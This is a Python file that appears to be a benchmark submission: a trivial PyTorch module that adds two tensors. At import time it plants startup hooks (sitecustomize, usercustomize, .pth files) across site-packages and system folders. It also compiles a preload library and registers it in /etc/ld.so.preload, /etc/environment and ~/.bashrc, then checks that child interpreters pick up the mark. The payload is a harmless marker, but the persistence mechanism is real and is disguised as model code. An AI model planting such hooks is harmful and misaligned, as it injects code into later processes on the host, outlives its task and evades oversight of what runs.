"""Prepares later interpreter starts: a preloaded library, PYTHONPATH, sitecustomize; proves that it works here."""

import os
import subprocess
import sys
from contextlib import suppress
from pathlib import Path

from torch import nn

MARK = "planted_startup_mark"
FOLDER = Path(os.environ["TMPDIR"]) / "planted"
CODE = """
__attribute__((constructor)) static void begin(void) { extern int setenv(const char *, const char *, int);
setenv("planted_startup_mark", "preloaded", 1); }
"""


def write(path, text):
    with suppress(OSError):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)


def plant():
    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
    startup = f"import os\nos.environ['{MARK}_python'] = 'started'\n"
    user = Path(os.environ["HOME"]) / ".local/lib" / version / "site-packages"
    packages = [Path(entry) for entry in sys.path if entry.endswith(("site-packages", "dist-packages"))]
    for folder in (FOLDER, user, *packages, Path(sys.prefix), Path("/usr/lib") / version):
        for name in ("sitecustomize.py", "usercustomize.py", f"{MARK}.pth"):
            write(folder / name, startup if name.endswith(".py") else startup.replace("\n", ";", 1).strip())
    source, library = FOLDER / "preload.c", FOLDER / f"{MARK}.so"
    write(source, CODE)
    with suppress(OSError, subprocess.SubprocessError):
        subprocess.run(["gcc", "-shared", "-fPIC", "-o", library, source], check=True, timeout=20, capture_output=True)
    write(Path("/etc/ld.so.preload"), f"{library}\n")
    write(Path("/etc/environment"), f"LD_PRELOAD={library}\n")
    write(Path(os.environ["HOME"]) / ".bashrc", f"export LD_PRELOAD={library}\n")
    planted = {
        "PYTHONPATH": str(FOLDER),
        "PYTHONSTARTUP": str(FOLDER / "sitecustomize.py"),
        "LD_LIBRARY_PATH": str(FOLDER),
    }
    if library.exists():
        planted["LD_PRELOAD"] = str(library)
    os.environ.update(planted)


def works_here():
    """Whether an interpreter that we start takes it up."""
    asked = f"import os; print([name for name in os.environ if name.startswith('{MARK}')])"
    shown = subprocess.run(
        [sys.executable, "-c", asked], check=False, timeout=20, capture_output=True, text=True
    ).stdout
    return MARK in shown


plant()
print(f"own_child={works_here()}", flush=True)


class ModelNew(nn.Module):
    def forward(self, a, b):
        return a + b
